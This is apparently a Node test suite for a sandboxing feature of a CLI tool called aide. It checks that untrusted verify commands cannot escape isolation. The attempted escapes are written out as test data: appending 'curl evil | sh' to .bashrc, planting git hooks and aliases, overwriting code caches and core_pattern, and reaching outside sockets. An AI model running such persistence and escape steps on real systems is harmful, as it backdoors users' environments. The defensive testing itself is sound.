/**
 * A verify command is hostile code: it may write only the scratch and its own HOME and temp
 * folder, and reach no UNIX socket outside the scratch. Each escape below is tried by a command
 * through the built CLI, under each mechanism; each must fail and leave the user's files
 * byte-identical.
 */
import assert from 'node:assert/strict';
import { spawn } from 'node:child_process';
import { existsSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:net';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { before, describe, test } from 'node:test';
import { BIN } from '../helpers/cli.js';
import { fingerprint, git, gitRepo, tempDir, testEnv, writeTree, type Cleanup } from '../helpers/sandbox.js';
import { verifyJson, withoutState, type VerifyJson } from '../helpers/verify.js';

/** Cleanup for the whole file: folders made in `before` live until the process ends. */
const fileScope: Cleanup = { after: (fn) => process.on('exit', () => void fn()) };

/** aide's own note of the sandbox plan that passed (src/infra/process/plan-memory.ts). */
const PLAN_MEMORY = '.cache/aide/sandbox-plans.json';

/** The build's code cache beside the bundle: bytecode the bin hands to V8 at every start. */
const BUILD_CODE_CACHE = join(dirname(BIN), 'aide-cli.cjs.cache');
/** The same for `aide review`'s own bundle, what a git hook starts at every commit. */
const BUILD_REVIEW_CODE_CACHE = join(dirname(BIN), 'aide-review.cjs.cache');

interface Socket {
  path: string;
  connections: () => number;
}

async function listen(path: string): Promise<Socket> {
  let connections = 0;
  const server: Server = createServer((socket) => {
    connections++;
    socket.end('reached\n');
  });
  await new Promise<void>((resolve) => server.listen(path, resolve));
  server.unref();
  return { path, connections: () => connections };
}

/** A command that always exits 0: only what it left behind tells whether it got out. */
function attempt(name: string, script: string): { name: string; run: string } {
  return { name, run: `${script}; exit 0` };
}

function connectTo(path: string): string {
  const code = `require("net").connect(${JSON.stringify(path)}).on("connect", () => { console.log("CONNECTED"); process.exit(0); }).on("error", (e) => console.log("refused", e.code))`;
  return `node -e '${code}'`;
}

interface World {
  codeCache: Buffer;
  reviewCodeCache: Buffer;
  corePattern: string;
  home: string;
  homePrint: Record<string, string>;
  main: string;
  mainGit: Record<string, string>;
  linked: string;
  linkedPrint: Record<string, string>;
  marker: string;
  sockets: Socket[];
  mainRun: VerifyJson;
  linkedRun: VerifyJson;
}

/** A descriptor a parent leaks to aide (the last test). */
const LEAKED_FD = 213;

const HOSTILE_GITCONFIG = '[alias]\n\tst = !touch /tmp/pwned\n';
const CORE_PATTERN = '/proc/sys/kernel/core_pattern';

async function setUp(mechanism: string): Promise<World> {
  const marker = `aide-escape-${mechanism}-${process.pid}`;
  const home = tempDir(fileScope, 'aide-user-home-');
  writeTree(home, { '.gitconfig': '[user]\n\tname = Real User\n', '.bashrc': 'export PS1=real\n' });
  const socketDir = tempDir(fileScope, 'aide-sock-');
  const sockets = [
    await listen(join(socketDir, 'agent.sock')),
    await listen(join(tmpdir(), `${marker}.sock`)),
  ];
  process.on('exit', () => {
    rmSync(join(tmpdir(), `${marker}.sock`), { force: true });
  });
  const main = gitRepo(fileScope, { 'src/app.js': 'export const answer = 42;\n' });
  const linked = join(tempDir(fileScope, 'aide-linked-'), 'wt');
  git(main, ['worktree', 'add', '-q', '-b', 'feature', linked]);
  const commonDir = join(main, '.git');
  const commands = (root: string) => [
    attempt(
      'home',
      `echo '${HOSTILE_GITCONFIG}' >> ${home}/.gitconfig; echo 'curl evil | sh' >> ${home}/.bashrc; git config --global alias.st '!touch /tmp/pwned'`,
    ),
    // Bytecode aide runs at its next start, outside any sandbox (src/launch/cli-bundle.ts).
    attempt(
      'user-code-cache',
      `mkdir -p ${home}/.cache/aide; echo x > ${home}/.cache/aide/cli-code-cache.bin; echo x > ${home}/.cache/aide/review-code-cache.bin`,
    ),
    attempt('build-code-cache', `echo x >> ${BUILD_CODE_CACHE}; echo x >> ${BUILD_REVIEW_CODE_CACHE}`),
    attempt('tmp', `echo x > /tmp/${marker}`),
    attempt('run', `echo x > /run/${marker}; echo x > /dev/shm/${marker}`),
    attempt(
      'git',
      `echo '${HOSTILE_GITCONFIG}' >> ${root}/.git/config; echo 'touch /tmp/pwned' > ${root}/.git/hooks/post-checkout`,
    ),
    attempt(
      'common',
      `echo '${HOSTILE_GITCONFIG}' >> ${commonDir}/config; echo 'touch /tmp/pwned' > ${commonDir}/hooks/post-checkout; chmod +x ${commonDir}/hooks/post-checkout`,
    ),
    attempt(
      'shadow',
      `s=${root}/.aide/state/shadow.git; echo '${HOSTILE_GITCONFIG}' >> $s/config; echo 'touch /tmp/pwned' > $s/hooks/post-checkout; echo x > $s/objects/info/alternates`,
    ),
    attempt('sockets', sockets.map((socket) => connectTo(socket.path)).join('; ')),
    // Writes back the value it read (harmless if it gets through): as root, core_pattern names a
    // helper the host kernel runs as root outside every namespace.
    attempt('sysctl', `p=${CORE_PATTERN}; cat $p > "$TMPDIR/p"; cat "$TMPDIR/p" > $p && echo WROTE-SYSCTL`),
  ];
  writeTree(main, { '.aide/sandbox.json': JSON.stringify({ commands: commands(main), flake_reruns: 0 }) });
  writeTree(linked, {
    '.aide/sandbox.json': JSON.stringify({ commands: commands(linked), flake_reruns: 0 }),
  });
  // The shadow exists before the commands run: aide makes it for the snapshot.
  const corePattern = readFileSync(CORE_PATTERN, 'utf8');
  const codeCache = readFileSync(BUILD_CODE_CACHE);
  const reviewCodeCache = readFileSync(BUILD_REVIEW_CODE_CACHE);
  const homePrint = fingerprint(home);
  const mainGit = fingerprint(main);
  const linkedPrint = fingerprint(linked);
  const env = { AIDE_ISOLATION: mechanism, HOME: home };
  const mainRun = (await verifyJson(main, [], env)).report;
  const linkedRun = (await verifyJson(linked, [], env)).report;
  return {
    codeCache,
    reviewCodeCache,
    corePattern,
    home,
    homePrint,
    main,
    mainGit,
    linked,
    linkedPrint,
    marker,
    sockets,
    mainRun,
    linkedRun,
  };
}

function tail(report: VerifyJson, name: string): string {
  return report.commands.find((c) => c.name === name)?.tail ?? '';
}

for (const mechanism of ['unshare', 'bwrap']) {
  describe(`a verify command under ${mechanism}`, () => {
    let world: World;
    before(async () => {
      world = await setUp(mechanism);
    });

    test('the report claims the scratch as the only writable place and sockets hidden', () => {
      for (const report of [world.mainRun, world.linkedRun]) {
        assert.equal(report.verdict, 'passed', JSON.stringify(report.commands.map((c) => [c.name, c.tail])));
        assert.equal(report.isolation.mechanism, mechanism);
        assert.equal(report.isolation.writable, 'scratch');
        assert.equal(report.isolation.sockets, 'hidden');
      }
    });

    test("cannot write the user's $HOME (.gitconfig aliases, .bashrc)", () => {
      // aide itself (not the command) notes the plan that passed its probe in the cache folder:
      // that one file is allowed, and must hold nothing but aide's own format.
      const { [PLAN_MEMORY]: memory, ...rest } = fingerprint(world.home);
      assert.deepEqual(rest, world.homePrint);
      if (memory !== undefined)
        assert.match(
          readFileSync(join(world.home, PLAN_MEMORY), 'utf8'),
          /^\{"format":1,"passed":\{("[0-9a-f]{32}":\d+,?)+\}\}\n$/,
        );
      assert.equal(readFileSync(join(world.home, '.gitconfig'), 'utf8'), '[user]\n\tname = Real User\n');
    });

    test("cannot plant bytecode in aide's code caches (the user's, the build's)", () => {
      assert.equal(existsSync(join(world.home, '.cache/aide/cli-code-cache.bin')), false);
      assert.equal(existsSync(join(world.home, '.cache/aide/review-code-cache.bin')), false);
      assert.deepEqual(readFileSync(BUILD_CODE_CACHE), world.codeCache);
      assert.deepEqual(readFileSync(BUILD_REVIEW_CODE_CACHE), world.reviewCodeCache);
      for (const report of [world.mainRun, world.linkedRun])
        // Read-only where the package is in sight; out of sight when it is under /tmp (as in CI).
        assert.match(
          tail(report, 'build-code-cache'),
          /Read-only file system|Permission denied|Directory nonexistent|No such file/,
        );
    });

    test('cannot write the shared /tmp', () => {
      assert.equal(existsSync(join('/tmp', world.marker)), false);
      assert.equal(existsSync(join(tmpdir(), world.marker)), false);
    });

    test('cannot write /run or /dev/shm', () => {
      assert.equal(existsSync(join('/run', world.marker)), false);
      assert.equal(existsSync(join('/dev/shm', world.marker)), false);
    });

    test("cannot write the workspace's .git (config, hooks)", () => {
      assert.deepEqual(withoutState(fingerprint(world.main)), withoutState(world.mainGit));
      assert.equal(existsSync(join(world.main, '.git/hooks/post-checkout')), false);
    });

    test("in a linked worktree, cannot write the main repository's real git dir (the common dir)", () => {
      assert.deepEqual(withoutState(fingerprint(world.main)), withoutState(world.mainGit));
      assert.doesNotMatch(readFileSync(join(world.main, '.git/config'), 'utf8'), /pwned/);
      assert.deepEqual(withoutState(fingerprint(world.linked)), withoutState(world.linkedPrint));
    });

    test('cannot write the shadow repository', () => {
      for (const root of [world.main, world.linked]) {
        const shadow = join(root, '.aide/state/shadow.git');
        assert.doesNotMatch(readFileSync(join(shadow, 'config'), 'utf8'), /pwned/);
        assert.equal(existsSync(join(shadow, 'hooks/post-checkout')), false);
        assert.notEqual(readFileSync(join(shadow, 'objects/info/alternates'), 'utf8'), 'x\n');
      }
    });

    test("cannot write the host's sysctls in /proc/sys", () => {
      for (const report of [world.mainRun, world.linkedRun]) {
        assert.doesNotMatch(tail(report, 'sysctl'), /WROTE-SYSCTL/);
        assert.match(tail(report, 'sysctl'), /Read-only file system|Permission denied/);
      }
      assert.equal(readFileSync(CORE_PATTERN, 'utf8'), world.corePattern);
    });

    test('cannot connect to a UNIX socket listening outside the scratch (in a temp dir, in /tmp)', () => {
      for (const report of [world.mainRun, world.linkedRun])
        assert.doesNotMatch(tail(report, 'sockets'), /CONNECTED/);
      assert.match(tail(world.mainRun, 'sockets'), /refused/);
      assert.deepEqual(
        world.sockets.map((socket) => socket.connections()),
        world.sockets.map(() => 0),
      );
    });
  });
}

test('commands get a fresh HOME and TMPDIR of their own; home_binds shows a file of the real home read-only', async (t) => {
  const home = tempDir(t, 'aide-user-home-');
  writeFileSync(join(home, '.npmrc'), 'cache-min=1\n');
  const probe =
    'echo "home=$HOME"; echo "tmp=$TMPDIR"; cat ~/.npmrc; (echo x >> ~/.npmrc) 2>/dev/null || echo npmrc-read-only; echo ok > ~/own && cat ~/own; echo ok > "$TMPDIR/t" && cat "$TMPDIR/t"';
  const root = gitRepo(t, {
    '.aide/sandbox.json': JSON.stringify({
      commands: [{ name: 'env', run: probe }],
      home_binds: ['~/.npmrc', '~/.missing'],
    }),
  });
  const { result, report } = await verifyJson(root, [], { HOME: home });
  assert.equal(result.code, 0, result.stderr);
  const out = report.commands[0]?.tail ?? '';
  assert.doesNotMatch(out, new RegExp(`home=${home}\\n`));
  assert.match(out, /home=\/.+\/home\n/);
  assert.match(out, /cache-min=1\nnpmrc-read-only\nok\nok/);
  assert.equal(readFileSync(join(home, '.npmrc'), 'utf8'), 'cache-min=1\n');
});

test('a descriptor aide inherited open for writing (a file outside the scratch) is not passed on to the command', async (t) => {
  const outside = join(tempDir(t, 'aide-outside-'), 'log.txt');
  writeFileSync(outside, 'the parent’s log\n');
  const root = gitRepo(t, {
    '.aide/sandbox.json': JSON.stringify({
      commands: [attempt('fd', `bash -c 'echo PWNED >&${LEAKED_FD}'; ls /proc/self/fd | tr "\\n" " "`)],
      flake_reruns: 0,
    }),
  });
  // As a parent that leaks one would: open for appending, without close-on-exec. A high number:
  // node marks its inherited descriptors close-on-exec itself up to the first gap past 15.
  const child = spawn(
    'bash',
    ['-c', `exec ${LEAKED_FD}>>"$0"; exec "$@"`, outside, process.execPath, BIN, 'verify', '--json'],
    { cwd: root, env: testEnv(tempDir(t, 'aide-home-')), stdio: ['ignore', 'pipe', 'pipe'], timeout: 60_000 },
  );
  let stdout = '';
  child.stdout.setEncoding('utf8').on('data', (d: string) => (stdout += d));
  const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
  assert.equal(code, 0, stdout);
  const report = JSON.parse(stdout) as VerifyJson;
  assert.match(tail(report, 'fd'), /Bad file descriptor/);
  // ls's own listing of the folder is its fd 3: nothing else is open.
  assert.match(tail(report, 'fd'), /^0 1 2 3 $/m);
  assert.equal(readFileSync(outside, 'utf8'), 'the parent’s log\n');
});
